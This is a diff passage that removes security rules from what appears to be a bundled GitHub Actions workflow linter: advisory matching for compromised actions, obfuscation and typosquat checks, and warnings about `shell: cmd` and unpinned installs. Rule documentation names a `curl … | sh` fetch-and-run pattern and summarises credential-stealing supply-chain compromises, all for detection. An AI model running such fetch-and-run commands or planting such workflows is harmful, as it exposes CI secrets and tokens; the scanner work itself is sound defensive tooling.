-        edits.push({ span: { start: existing.hash + 1, end: existing.hash + 1 }, newText: ` ${comment} #${afterHash === " " ? "" : " "}` });
-      }
-    }
-  }
-  return edits;
-}
-var short = (sha) => sha.slice(0, 12);
-function planPin(file, site, snapshot) {
-  const uses = resolvableRemote(site);
-  if (!uses || uses.refKind === "sha") return { ok: false, reason: "nothing to pin" };
-  if (!snapshot) return { ok: false, reason: "tags are still being resolved" };
-  if (snapshot.offline) return { ok: false, reason: "offline mode is on, so tags are not resolved and no pin can be computed" };
-  const target = usesTarget(uses);
-  if (uses.refKind === "short-sha") {
-    const expanded = snapshot.shortShas.get(`${repoKey(uses.owner, uses.repo)}@${uses.ref}`);
-    if (!expanded) return { ok: false, reason: "the abbreviated SHA was not resolved" };
-    if (!expanded.ok) return { ok: false, reason: `could not expand \`${uses.ref}\`: ${expanded.error.message}` };
-    const refs2 = refsFor(snapshot, uses);
-    const comment2 = refs2?.ok ? chooseVersionComment(refs2.value, expanded.value, null) : null;
-    const edits2 = pinEdits(file, site, uses, expanded.value, comment2 && parseVersion(comment2) ? comment2 : null);
-    if (!edits2) return { ok: false, reason: "the `uses:` value is not written plainly enough to edit exactly" };
-    return { ok: true, commit: expanded.value, comment: comment2, via: "sha", fix: { title: `Expand to the full commit SHA ${short(expanded.value)}…`, isPreferred: true, safety: "safe", edits: edits2 } };
-  }
-  const refs = refsFor(snapshot, uses);
-  if (!refs) return { ok: false, reason: `${uses.repository} was not resolved` };
-  if (!refs.ok) return { ok: false, reason: `could not resolve ${uses.repository}: ${refs.error.message}` };
-  const found = findRef(refs.value, uses.ref);
-  if (found.tag && found.branch && found.tag.commit !== found.branch.commit) {
-    return { ok: false, reason: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository} on different commits; pin by hand after choosing` };
-  }
-  const ref2 = found.branch ?? found.tag;
-  if (!ref2) return { ok: false, reason: `${uses.repository} has no tag or branch named \`${uses.ref}\`` };
-  const isBranch = !found.tag;
-  const comment = isBranch ? uses.ref : chooseVersionComment(refs.value, ref2.commit, uses.ref);
-  const edits = pinEdits(file, site, uses, ref2.commit, comment);
-  if (!edits) return { ok: false, reason: "the `uses:` value is not written plainly enough to edit exactly" };
-  const fix = isBranch ? { title: `Pin ${target} to the current commit of ${uses.ref} (${short(ref2.commit)}…)`, isPreferred: false, safety: "safe", edits } : { title: `Pin ${target} to ${short(ref2.commit)}… # ${comment}`, isPreferred: true, safety: "safe", edits };
-  return { ok: true, commit: ref2.commit, comment, via: isBranch ? "branch" : "tag", fix };
-}
-
-// server/src/rules/support/catalogue.ts
-function trailingComment2(file, end) {
-  const line = file.lines.lineAt(end);
-  const lineEnd = file.lines.lineContentEnd(line);
-  const rest = file.text.slice(end, lineEnd);
-  const match = /(^|\s)#/.exec(rest);
-  if (!match) return null;
-  const hash = end + match.index + match[1].length;
-  return { text: file.text.slice(hash + 1, lineEnd).trim(), span: { start: hash, end: lineEnd } };
-}
-function commentVersion(comment) {
-  const match = /(?:^|[\s@=:])(v?\d+(?:\.\d+){0,3}(?:-[0-9A-Za-z.]+)?)(?=$|[\s,;)])/.exec(comment);
-  return match ? match[1] : null;
-}
-function usesCommentVersion(file, site) {
-  const comment = trailingComment2(file, site.entry.valueSpan.end);
-  return comment ? commentVersion(comment.text) : null;
-}
-function parseVersion2(text) {
-  const match = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:\.(\d+))?(-[0-9A-Za-z.]+)?(\+[0-9A-Za-z.]+)?$/.exec(text.trim());
-  if (!match) return null;
-  const parts = [match[1], match[2], match[3], match[4]].filter((p) => p !== void 0).map(Number);
-  return { parts, written: parts.length, prerelease: match[5] !== void 0 };
-}
-function editDistance(a, b, limit = 2) {
-  if (Math.abs(a.length - b.length) > limit) return limit + 1;
-  let previous = Array.from({ length: b.length + 1 }, (_, i) => i);
-  for (let i = 1; i <= a.length; i++) {
-    const current = [i];
-    let best = i;
-    for (let j = 1; j <= b.length; j++) {
-      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
-      current[j] = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + cost);
-      best = Math.min(best, current[j]);
-    }
-    if (best > limit) return limit + 1;
-    previous = current;
-  }
-  return previous[b.length];
-}
-function conditions(file) {
-  const found = [];
-  if (file.workflow) {
-    for (const job of file.workflow.jobs) {
-      if (job.if) found.push({ entry: job.if, owner: `job \`${job.id}\`` });
-      for (const step of job.steps) if (step.if) found.push({ entry: step.if, owner: `step \`${step.label}\` of job \`${job.id}\`` });
-    }
-  }
-  if (file.action) {
-    for (const step of file.action.steps) if (step.if) found.push({ entry: step.if, owner: `step \`${step.label}\`` });
-  }
-  return found;
-}
-function conditionEntries(file) {
-  return conditions(file).map((condition) => condition.entry);
-}
-function evaluatedExpressions(file) {
-  let cached = evaluatedCache.get(file);
-  if (!cached) evaluatedCache.set(file, cached = computeEvaluatedExpressions(file));
-  return cached;
-}
-var evaluatedCache = new AttachedCache("evaluated-expressions", attachmentsOf);
-var Evaluated = class {
-  constructor(span, text, relative3, shift, exact, isCondition, fence) {
-    this.span = span;
-    this.text = text;
-    this.relative = relative3;
-    this.shift = shift;
-    this.exact = exact;
-    this.isCondition = isCondition;
-    this.fence = fence;
-  }
-  span;
-  text;
-  relative;
-  shift;
-  exact;
-  isCondition;
-  fence;
-  shifted;
-  get tree() {
-    return this.relative.ast;
-  }
-  get parsed() {
-    return this.shifted ??= this.shift();
-  }
-};
-function computeEvaluatedExpressions(file) {
-  const result = [];
-  const entries = conditionEntries(file);
-  const conditionScalars = new Set(entries.map((entry) => entry.value));
-  for (const site of file.expressions) {
-    const occurrence = site.occurrence;
-    if (!occurrence.terminated || !occurrence.parsed.ast) continue;
-    const exact = file.text.slice(occurrence.innerStart, occurrence.innerEnd) === occurrence.text;
-    result.push(
-      new Evaluated(
-        { start: occurrence.innerStart, end: occurrence.innerEnd },
-        occurrence.text,
-        occurrence.parsed,
-        () => absoluteParse(occurrence),
-        exact,
-        conditionScalars.has(site.scalar),
-        { start: occurrence.start, end: occurrence.end }
-      )
-    );
-  }
-  for (const entry of entries) {
-    const scalar = asScalar(entry.value);
-    if (!scalar || typeof scalar.value !== "string" || scalar.value.includes("${{")) continue;
-    const text = scalar.value;
-    if (text.trim() === "") continue;
-    const offset = valueOffsetInSource(scalar, file.text);
-    const parsed = parseExpression(text);
-    if (!parsed.ast) continue;
-    const start = offset ?? entry.valueSpan.start;
-    result.push(new Evaluated(offset !== null ? { start, end: start + text.length } : entry.valueSpan, text, parsed, () => shiftParsed(parsed, start), offset !== null, true, null));
-  }
-  return result;
-}
-
-// server/src/rules/known-vulnerable-actions.ts
-var WIDTH = 4;
-function tuple(version2) {
-  return Array.from({ length: WIDTH }, (_, i) => version2.parts[i] ?? 0);
-}
-function compare(a, b) {
-  for (let i = 0; i < WIDTH; i++) if (a[i] !== b[i]) return a[i] < b[i] ? -1 : 1;
-  return 0;
-}
-function bound(text) {
-  if (!text) return null;
-  const parsed = parseVersion2(text);
-  return parsed ? tuple(parsed) : null;
-}
-function exactIn(version2, range) {
-  const v2 = tuple(version2);
-  const introduced = bound(range.introduced);
-  if (introduced && (compare(v2, introduced) < 0 || range.introducedExclusive && compare(v2, introduced) === 0)) return false;
-  const fixed = bound(range.fixed);
-  if (fixed && (compare(v2, fixed) > 0 || compare(v2, fixed) === 0 && !version2.prerelease)) return false;
-  const last = bound(range.lastAffected);
-  if (last && compare(v2, last) > 0) return false;
-  return true;
-}
-function seriesVerdict(version2, range) {
-  const start = tuple(version2);
-  const end = start.slice();
-  end[version2.written - 1] += 1;
-  const introduced = bound(range.introduced) ?? [0, 0, 0, 0];
-  if (compare(introduced, end) >= 0) return "clear";
-  const fixed = bound(range.fixed);
-  const last = bound(range.lastAffected);
-  if (!fixed && !last) return "affected";
-  if (fixed && compare(fixed, end) >= 0) return "affected";
-  if (last && compare(last, end) >= 0) return "affected";
-  const overlaps = fixed !== null && compare(fixed, start) > 0 || last !== null && compare(last, start) >= 0;
-  return overlaps ? "maybe" : "clear";
-}
-function verdict(text, advisory) {
-  const version2 = parseVersion2(text);
-  if (!version2) return "clear";
-  let result = "clear";
-  for (const range of advisory.ranges) {
-    const one = version2.written >= 3 ? exactIn(version2, range) ? "affected" : "clear" : seriesVerdict(version2, range);
-    if (one === "affected") return "affected";
-    if (one === "maybe") result = "maybe";
-  }
-  return result;
-}
-function ids(advisory) {
-  return advisory.cve ? `${advisory.ghsa} / ${advisory.cve}` : advisory.ghsa;
-}
-function upgrade(advisory) {
-  if (advisory.patchedTag) return `; upgrade to ${advisory.patchedTag} or later`;
-  return advisory.firstPatched ? `; the first patched version is ${advisory.firstPatched}` : "";
-}
-function tagFor(refs, version2) {
-  if (!refs || !version2) return void 0;
-  const bare = version2.replace(/^v/, "");
-  return (refs.tags.find((tag) => tag.name === version2) ?? refs.tags.find((tag) => tag.name.replace(/^v/, "") === bare))?.name;
-}
-function concerns(advisory, uses) {
-  const repository = uses.repository.toLowerCase();
-  if (advisory.packageName === repository) return true;
-  return uses.subpath !== null && advisory.packageName === `${repository}/${trimEndOf(uses.subpath, "/")}`.toLowerCase();
-}
-function knownFor(uses, snapshot, refs) {
-  const bundled = [...advisoriesFor(uses.repository)];
-  const online = snapshot && !snapshot.offline ? advisoriesFor2(snapshot, uses) : void 0;
-  if (!online) return bundled;
-  const seen = new Set(bundled.map((advisory) => advisory.ghsa));
-  const merged = /* @__PURE__ */ new Map();
-  for (const advisory of online) {
-    if (seen.has(advisory.ghsa) || !concerns(advisory, uses)) continue;
-    const existing = merged.get(advisory.ghsa);
-    if (existing) {
-      existing.ranges = [...existing.ranges, ...advisory.ranges];
-      continue;
-    }
-    const entry = {
-      repository: uses.repository.toLowerCase(),
-      ghsa: advisory.ghsa,
-      severity: advisory.severity,
-      kind: "vulnerability",
-      summary: `${trimEndOfSpaceAnd(advisory.summary, ".")} (GitHub advisory database, affected ${advisory.rangeText})`,
-      ranges: advisory.ranges,
-      source: advisory.url ?? `${snapshot.serverUrl}/advisories/${advisory.ghsa}`,
-      online: true
-    };
-    if (advisory.cve) entry.cve = advisory.cve;
-    if (advisory.firstPatched) entry.firstPatched = advisory.firstPatched;
-    const patchedTag = tagFor(refs, advisory.firstPatched);
-    if (patchedTag) entry.patchedTag = patchedTag;
-    merged.set(advisory.ghsa, entry);
-  }
-  return [...bundled, ...merged.values()];
-}
-function taggedVersion(refs, sha) {
-  if (!refs) return null;
-  for (const name of tagsAt(refs, sha)) if (isFullVersion(parseVersion(name))) return name;
-  return null;
-}
-function bumpFix(file, site, uses, refs, advisory) {
-  if (!refs || !advisory.patchedTag) return null;
-  const tag = refs.tags.find((candidate) => candidate.name === advisory.patchedTag);
-  if (!tag || tag.commit === uses.ref) return null;
-  const edits = pinEdits(file, site, uses, tag.commit, tag.name);
-  if (!edits || edits.length === 0) return null;
-  return {
-    title: `Upgrade ${usesTarget(uses)} to ${tag.name} (${tag.commit.slice(0, 12)}…), the first patched release`,
-    isPreferred: false,
-    safety: "unsafe",
-    edits
-  };
-}
-var knownVulnerableActions = {
-  id: "known-vulnerable-actions",
-  title: "Action version with a published advisory",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A `uses:` names an action version (by tag, by the version comment of a SHA pin, or by a known-malicious commit) that a public GitHub advisory lists as compromised or vulnerable.",
-    why: "In March 2025 the tags of `tj-actions/changed-files` (CVE-2025-30066) were moved to a commit that printed the runner's secrets into public logs, after a similar compromise of `reviewdog/action-setup@v1` (CVE-2025-30154). In March 2026 the tags of `aquasecurity/trivy-action` and `aquasecurity/setup-trivy` were force-pushed to a credential stealer (CVE-2026-33634). Other actions shipped injection bugs fixed in a later release. Workflows still naming those versions or commits remain exposed, or were exposed while the bad code was live.",
-    fix: "Move to the first patched release (pinned by SHA with a version comment), and rotate any secret the job could read while a compromised version ran."
-  },
-  check({ file, report }) {
-    const snapshot = snapshotOf(file);
-    for (const site of file.uses) {
-      const reference = site.reference;
-      if (reference.kind !== "remote" || !reference.ref) continue;
-      const resolved = snapshot && !snapshot.offline ? refsFor(snapshot, reference) : void 0;
-      const refs = resolved?.ok ? resolved.value : void 0;
-      const advisories = knownFor(reference, snapshot, refs);
-      if (advisories.length === 0) continue;
-      const target = usesTarget(reference);
-      const refSpan2 = site.exact ? { start: site.valueStart + reference.refStart, end: site.valueStart + reference.refEnd } : site.entry.valueSpan;
-      for (const advisory of advisories) {
-        const sha = /^[0-9a-f]{40}$/i.test(reference.ref) ? reference.ref.toLowerCase() : null;
-        if (sha) {
-          if (advisory.badCommits?.includes(sha)) {
-            report({
-              span: refSpan2,
-              message: `\`${target}@${reference.ref.slice(0, 12)}…\` is the malicious commit of ${ids(advisory)}: ${advisory.summary}. Rotate every secret this job could read${upgrade(advisory)}`,
-              severity: advisory.severity,
-              confidence: "high"
-            });
-            continue;
-          }
-          if (advisory.kind === "compromise") continue;
-          const tagged = taggedVersion(refs, sha);
-          const version2 = tagged ?? usesCommentVersion(file, site);
-          if (version2 && verdict(version2, advisory) === "affected") {
-            const fix = bumpFix(file, site, reference, refs, advisory);
-            report({
-              span: refSpan2,
-              message: `\`${target}\` is pinned to a commit ${tagged ? "tagged" : "commented as"} \`${version2}\`, affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`,
-              severity: advisory.severity,
-              confidence: tagged ? "high" : "medium",
-              fixes: fix ? [fix] : []
-            });
-          }
-          continue;
-        }
-        if (reference.refKind !== "version") continue;
-        const moving = (parseVersion2(reference.ref)?.written ?? 3) < 3;
-        const movingTag = moving && refs ? refs.tags.find((tag) => tag.name === reference.ref) : void 0;
-        const now = movingTag && !refs.branches.some((branch) => branch.name === reference.ref) ? taggedVersion(refs, movingTag.commit) : null;
-        if (now && verdict(now, advisory) !== "affected") continue;
-        const result = now ? "affected" : verdict(reference.ref, advisory);
-        if (result === "clear") continue;
-        const confidence = result === "affected" ? "high" : "medium";
-        const fixes = [];
-        const bump = bumpFix(file, site, reference, refs, advisory);
-        if (bump) fixes.push(bump);
-        else if (advisory.patchedTag && site.exact) {
-          fixes.push({
-            title: `Upgrade ${target} to ${advisory.patchedTag} (then pin it by SHA)`,
-            isPreferred: false,
-            safety: "unsafe",
-            edits: [{ span: refSpan2, newText: advisory.patchedTag }]
-          });
-        }
-        const lead = result === "maybe" ? `\`${target}@${reference.ref}\` is a moving tag whose series includes versions affected by ${ids(advisory)} (${advisory.summary}); it is safe only if the tag now points at the fix${advisory.patchedTag ? ` (${advisory.patchedTag})` : advisory.firstPatched ? ` (${advisory.firstPatched})` : ""} or later — pin a patched release by SHA` : `\`${target}@${reference.ref}\`${now ? ` (a moving tag, now at \`${now}\`)` : moving ? " (a moving tag whose newest release is affected)" : ""} is affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`;
-        report({
-          span: refSpan2,
-          message: advisory.kind === "compromise" && result === "affected" ? `${lead}. If a run used this tag while it was compromised, rotate every secret the job could read` : lead,
-          severity: advisory.severity,
-          confidence,
-          ...result === "maybe" ? { persona: "pedantic" } : {},
-          fixes
-        });
-      }
-    }
-  }
-};
-
-// server/src/rules/misfeature.ts
-function checkShell(ctx, where, shell) {
-  if (!shell || shell.value.trim().toLowerCase() !== "cmd") return;
-  ctx.report({
-    span: shell.span,
-    message: `${where()} uses \`shell: cmd\`, whose quoting rules make any interpolated value hard to contain and whose errors do not stop the script: use \`pwsh\` or \`bash\``
-  });
-}
-function checkSteps(ctx, steps) {
-  for (const step of steps) checkShell(ctx, () => `Step \`${step.label}\``, step.shell);
-}
-var misfeature = {
-  id: "misfeature",
-  title: "Feature that is hard to use safely",
-  kinds: ["workflow", "action"],
-  severity: "low",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`shell: cmd` and actions/setup-python's `pip-install` work, but make injection or unpinned installs the easy path.",
-    why: "`cmd.exe` expands `%VAR%` and metacharacters in ways no quoting fully contains and carries on after a failing command; `pip-install` installs whatever the index serves today, without hashes, in the same step that sets up the interpreter — the unpinned-install pattern behind the 2026 LiteLLM compromise.",
-    fix: "Use `shell: pwsh` or `bash` on Windows; install Python packages in a `run:` step from a lockfile with hashes."
-  },
-  check(ctx) {
-    const { workflow, action } = ctx.file;
-    if (workflow) {
-      const defaults = (view) => view.child("defaults").child("run").string("shell");
-      checkShell(ctx, () => "The workflow default", defaults(workflow));
-      for (const job of workflow.jobs) {
-        checkShell(ctx, () => `The default of job \`${job.id}\``, defaults(job));
-        checkSteps(ctx, job.steps);
-      }
-    }
-    if (action) checkSteps(ctx, action.steps);
-    for (const site of ctx.file.uses) {
-      const reference = site.reference;
-      if (!site.step || reference.kind !== "remote" || reference.repository.toLowerCase() !== "actions/setup-python") continue;
-      const pip = site.step.with.get("pip-install");
-      if (!pip) continue;
-      ctx.report({
-        span: pip.keySpan,
-        message: "`pip-install` of actions/setup-python installs packages into the interpreter without a lockfile or hashes: install them in a `run:` step from a locked requirements file (`pip install --require-hashes -r …`, `uv sync --locked`)"
-      });
-    }
-  }
-};
-
-// server/src/rules/obfuscation.ts
-function normalizeUsesPath(segments) {
-  const out = [];
-  for (const segment of segments) {
-    if (segment === "" || segment === ".") continue;
-    if (segment === ".." && out.length > 0 && out[out.length - 1] !== "..") out.pop();
-    else out.push(segment);
-  }
-  return out;
-}
-function constantString(node) {
-  let constant = true;
-  walkExpression(node, (n) => {
-    if (n.type === "context" || n.type === "property" || n.type === "index" || n.type === "wildcard") constant = false;
-    if (n.type === "call" && !["format", "join", "tojson"].includes(n.name.toLowerCase())) constant = false;
-  });
-  if (!constant) return void 0;
-  const inner = node.type === "group" ? node.expr : node;
-  if (inner.type === "literal" && inner.kind === "string") return String(inner.value);
-  if (inner.type === "call" && inner.name.toLowerCase() === "format" && inner.args.every((a) => a.type === "literal")) {
-    const [template, ...args2] = inner.args.map((a) => a.type === "literal" ? a.value === null ? "" : String(a.value) : "");
-    let broken = false;
-    const result = template.replace(/\{\{|\}\}|\{(\d+)\}/g, (match, index) => {
-      if (match === "{{") return "{";
-      if (match === "}}") return "}";
-      const i = Number(index);
-      if (i >= args2.length) broken = true;
-      return args2[i] ?? "";
-    });
-    return broken ? void 0 : result;
-  }
-  if (inner.type === "call") return "";
-  return void 0;
-}
-var SAFE_TEXT = /^[A-Za-z0-9_./@+=-]+$/;
-function checkUsesPaths(ctx) {
-  for (const site of ctx.file.uses) {
-    const reference = site.reference;
-    const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
-    let normalized = null;
-    if (reference.kind === "remote" && reference.subpath !== null) {
-      const raw = reference.subpath.split("/");
-      const clean = normalizeUsesPath(raw);
-      if (clean.join("/") !== raw.join("/") && !clean.includes("..")) {
-        const path = [reference.owner, reference.repo, ...clean].join("/");
-        normalized = reference.ref === null ? path : `${path}@${reference.ref}`;
-      }
-    } else if (reference.kind === "local" || reference.kind === "self") {
-      const prefix = reference.kind === "local" ? "./" : "$/";
-      const rest = reference.kind === "local" ? reference.path.replace(/^\.\/?/, "") : reference.path;
-      const raw = rest.split("/");
-      const clean = normalizeUsesPath(raw);
-      if (clean.join("/") !== raw.join("/") && !(raw.length > 0 && raw[raw.length - 1] === "" && clean.join("/") === raw.slice(0, -1).join("/"))) {
-        normalized = prefix + clean.join("/");
-      }
-    } else if (reference.kind === "invalid") {
-      const text = site.value.trim();
-      const at = text.lastIndexOf("@");
-      const target = at === -1 ? text : text.slice(0, at);
-      const clean = normalizeUsesPath(target.split("/"));
-      if (clean.length >= 2 && !clean.includes("..") && !text.startsWith("docker://") && !text.startsWith(".") && !text.startsWith("$")) {
-        normalized = clean.join("/") + (at === -1 ? "" : text.slice(at));
-      }
-    }
-    if (normalized === null) continue;
-    const fixes = site.exact ? [{ title: `Write it as \`${normalized}\``, isPreferred: true, safety: "safe", edits: [{ span, newText: normalized }] }] : [];
-    ctx.report({ span, message: `\`${site.value.trim()}\` hides its target behind \`.\`, \`..\` or empty path segments; it is \`${normalized}\``, fixes });
-  }
-}
-var obfuscation = {
-  id: "obfuscation",
-  title: "Needlessly obscured action path or expression",
-  kinds: ["workflow", "action"],
-  severity: "low",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A `uses:` path with `.`, `..` or empty segments, or a `${{ }}` that only computes a constant (`${{ 'curl' }}`, `${{ format('{0}', 'x') }}`), hides what the workflow does from reviewers and scanners.",
-    why: "Reviewers and pattern-based scanners look for `actions/checkout`, `curl … | sh` or `pull_request_target` as written; attackers who plant or propose workflow changes (GhostAction 2025, Shai-Hulud 2025 planted exfiltration workflows in thousands of repositories) benefit from spellings that do not match. Legitimate workflows never need them.",
-    fix: "Write the plain form; the quick fix replaces the path with its normalised form, and a constant expression with its value when that value is plain text."
-  },
-  check(ctx) {
-    checkUsesPaths(ctx);
-    for (const expression of evaluatedExpressions(ctx.file)) {
-      if (!expression.fence || expression.isCondition || !expression.exact || !expression.tree) continue;
-      const value = constantString(expression.tree);
-      if (value === void 0 || value.includes("${{") || value.includes("}}")) continue;
-      const fence = expression.fence;
-      const fixes = SAFE_TEXT.test(value) ? [{ title: `Replace with \`${value}\``, isPreferred: true, safety: "safe", edits: [{ span: fence, newText: value }] }] : [];
-      ctx.report({
-        span: fence,
-        message: `\`${ctx.file.text.slice(fence.start, fence.end)}\` always evaluates to \`${value}\`: write the text itself`,
-        fixes
-      });
-    }
-  }
-};
-
-// server/src/rules/self-repository.ts
-function checkoutKind(step) {
-  const uses = step.string("uses")?.value.toLowerCase() ?? "";
-  if (!uses.startsWith("actions/checkout@") && uses !== "actions/checkout") return null;
-  const inputs = step.with;
-  const repository = inputs.string("repository")?.value.trim();
-  if (repository && !/^\$\{\{\s*github\.repository\s*\}\}$/.test(repository)) return "other";
-  if (inputs.has("path")) return "other";
-  if (inputs.has("ref")) return "moved-ref";
-  return "same";
-}
-var selfRepository = {
-  id: "self-repository",
-  title: "Local action loaded from the workspace instead of the workflow's own commit",
-  kinds: ["workflow"],
-  severity: "low",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`uses: ./path` runs whatever is at that path in the runner's workspace when the step starts; `uses: $/path` runs the action from the commit the workflow itself came from.",
-    why: "In the 2026 Trivy compromise (hackerbot-claw), a `pull_request_target` workflow checked out the pull request and then ran `uses: ./.github/actions/setup-go`: the \"local\" action was the attacker's code, running with the organisation's token. `./` also cannot satisfy GitHub's \"require full-length SHA\" policy. `$/` (GA July 2026) names the workflow's own repository and commit.",
-    fix: "Write `uses: $/path`. The quick fix is marked safe when the job checks out only its own repository at the default ref, and unsafe when an earlier checkout names a `ref:` (then `./` runs that ref's code and `$/` runs the workflow's commit — usually what you want, but review it)."
-  },
-  check({ file, report }) {
-    const workflow = file.workflow;
-    if (!workflow) return;
-    for (const site of file.uses) {
-      const reference = site.reference;
-      if (reference.kind !== "local" || reference.isReusableWorkflow || !site.job || !site.step || !site.exact) continue;
-      const raw = site.value.trim();
-      if (!raw.startsWith("./") || raw.startsWith("./..") || raw === "./") continue;
-      const before = site.job.steps.slice(0, site.step.index).map(checkoutKind).filter((kind) => kind !== null);
-      if (before.includes("other")) continue;
-      const safe = before.length > 0 && before.every((kind) => kind === "same");
-      const leading = site.value.length - site.value.trimStart().length;
-      const span = { start: site.valueStart + leading, end: site.valueStart + leading + raw.length };
-      const replacement = `$/${raw.slice(2)}`;
-      report({
-        span: { start: span.start, end: span.start + 2 },
-        message: before.includes("moved-ref") ? `\`${raw}\` runs the action from the ref checked out earlier in job \`${site.job.id}\`, not from this workflow's commit: use \`${replacement}\`` : `\`${raw}\` loads the action from the workspace; \`${replacement}\` loads it from this workflow's own commit and satisfies SHA-pinning policies`,
-        fixes: [{ title: `Use \`${replacement}\``, isPreferred: true, safety: safe ? "safe" : "unsafe", edits: [{ span: { start: span.start, end: span.start + 2 }, newText: "$/" }] }]
-      });
-    }
-  }
-};
-
-// server/src/rules/superfluous-actions.ts
-var SUPERFLUOUS = /* @__PURE__ */ new Map([
-  ["actions/create-release", { replacement: "`gh release create`", persona: "regular" }],
-  ["actions/upload-release-asset", { replacement: "`gh release upload`", persona: "regular" }],
-  ["softprops/action-gh-release", { replacement: "`gh release create` / `gh release upload`", persona: "pedantic" }],
-  ["ncipollo/release-action", { replacement: "`gh release create`", persona: "pedantic" }],
-  ["svenstaro/upload-release-action", { replacement: "`gh release upload`", persona: "pedantic" }],
-  ["andstor/file-existence-action", { replacement: "`test -e <path>` in a `run:` step", persona: "regular" }],
-  ["dcarbone/install-jq-action", { replacement: "the preinstalled `jq`", persona: "regular" }],
-  ["sergeysova/jq-action", { replacement: "the preinstalled `jq`", persona: "regular" }],
-  ["mikefarah/yq", { replacement: "the preinstalled `yq`", persona: "pedantic" }],
-  ["juliangruber/read-file-action", { replacement: "`cat` into `$GITHUB_OUTPUT`", persona: "regular" }],
-  ["stefanzweifel/git-auto-commit-action", { replacement: "`git commit` and `git push`", persona: "pedantic" }],
-  ["endbug/add-and-commit", { replacement: "`git add`, `git commit` and `git push`", persona: "pedantic" }],
-  ["ad-m/github-push-action", { replacement: "`git push`", persona: "pedantic" }],
-  ["actions-ecosystem/action-add-labels", { replacement: "`gh issue edit --add-label` / `gh pr edit --add-label`", persona: "pedantic" }],
-  ["peter-evans/repository-dispatch", { replacement: "`gh api repos/{owner}/{repo}/dispatches`", persona: "pedantic" }],
-  ["benc-uk/workflow-dispatch", { replacement: "`gh workflow run`", persona: "pedantic" }]
-]);
-var superfluousActions = {
-  id: "superfluous-actions",
-  title: "Action that a preinstalled tool replaces",
-  kinds: ["workflow", "action"],
-  severity: "informational",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A `uses:` pulls in third-party code for something `gh`, `git`, `jq`, `yq` or the shell on GitHub-hosted runners already do.",
-    why: "Every action is code from another owner running with your job's token and secrets; each one is a place where a moved tag or hijacked account (tj-actions/changed-files and reviewdog in 2025) reaches you. A one-line `gh` or `git` command has no such supply chain.",
-    fix: "Replace the step with the command the message names (with `GH_TOKEN: ${{ github.token }}` in `env:` for `gh`)."
-  },
-  check({ file, report }) {
-    for (const site of file.uses) {
-      const reference = site.reference;
-      if (reference.kind !== "remote" || reference.subpath !== null) continue;
-      const entry = SUPERFLUOUS.get(reference.repository.toLowerCase());
-      if (!entry) continue;
-      const end = reference.ref === null ? site.value.length : reference.refStart - 1;
-      const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report({ span, message: `\`${usesTarget(reference)}\` can be replaced by ${entry.replacement}, with no third-party code in the job`, persona: entry.persona });
-    }
-  }
-};
-
-// server/src/knowledge/popular-actions.ts
-var POPULAR_ACTIONS = [
-  "actions/checkout",
-  "actions/cache",
-  "actions/upload-artifact",
-  "actions/download-artifact",
-  "actions/setup-python",
-  "actions/setup-node",
-  "actions/setup-go",
-  "actions/setup-java",
-  "actions/setup-dotnet",
-  "actions/github-script",
-  "actions/create-github-app-token",
-  "actions/attest-build-provenance",
-  "actions/labeler",
-  "actions/stale",
-  "actions/deploy-pages",
-  "actions/upload-pages-artifact",
-  "actions/configure-pages",
-  "actions/dependency-review-action",
-  "github/codeql-action",
-  "docker/setup-buildx-action",
-  "docker/setup-qemu-action",
-  "docker/login-action",
-  "docker/build-push-action",
-  "docker/metadata-action",
-  "astral-sh/setup-uv",
-  "swatinem/rust-cache",
-  "dtolnay/rust-toolchain",
-  "taiki-e/install-action",
-  "pnpm/action-setup",
-  "pypa/gh-action-pypi-publish",
-  "softprops/action-gh-release",
-  "peter-evans/create-pull-request",
-  "peter-evans/create-or-update-comment",
-  "dorny/paths-filter",
-  "tj-actions/changed-files",
-  "codecov/codecov-action",
-  "golangci/golangci-lint-action",
-  "goreleaser/goreleaser-action",
-  "google-github-actions/auth",
-  "google-github-actions/setup-gcloud",
-  "aws-actions/configure-aws-credentials",
-  "azure/login",
-  "hashicorp/setup-terraform",
-  "ossf/scorecard-action",
-  "sigstore/cosign-installer",
-  "ruby/setup-ruby",
-  "subosito/flutter-action",
-  "gradle/actions",
-  "jdx/mise-action",
-  "pre-commit/action",
-  "aquasecurity/trivy-action",
-  "slackapi/slack-github-action",
-  "cachix/install-nix-action",
-  "denoland/setup-deno",
-  "oven-sh/setup-bun",
-  "pyo3/maturin-action",
-  "zizmorcore/zizmor-action",
-  "step-security/harden-runner",
-  "JamesIves/github-pages-deploy-action".toLowerCase(),
-  "peaceiris/actions-gh-pages",
-  "mikefarah/yq",
-  "crazy-max/ghaction-import-gpg"
-];
-
-// server/src/rules/typosquat-uses.ts
-var POPULAR = new Set(POPULAR_ACTIONS);
-var targets = /* @__PURE__ */ new Map();
-function typosquatTarget(repository) {
-  let target = targets.get(repository);
-  if (target === void 0) {
-    if (targets.size >= 1e4) targets.clear();
-    target = computeTyposquatTarget(repository);
-    targets.set(repository, target);
-  }
-  return target;
-}
-function computeTyposquatTarget(repository) {
-  const lower2 = repository.toLowerCase();
-  if (POPULAR.has(lower2)) return null;
-  const owner = lower2.split("/")[0];
-  for (const popular of POPULAR_ACTIONS) {
-    if (popular.split("/")[0] === owner) continue;
-    if (editDistance(lower2, popular, 1) <= 1) return popular;
-  }
-  return null;
-}
-var typosquatUses = {
-  id: "typosquat-uses",
-  title: "Action name one typo away from a popular action",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "low",
-  persona: "regular",
-  docs: {
-    summary: "A `uses:` names a repository that differs by one character from a widely used action but belongs to another owner.",
-    why: "Typosquatting is an old package-registry attack that works on actions too: researchers registered owners such as `actons` and `actlons` and found workflows running their code. A one-letter slip in `uses:` hands the job, its token and its secrets to a stranger.",
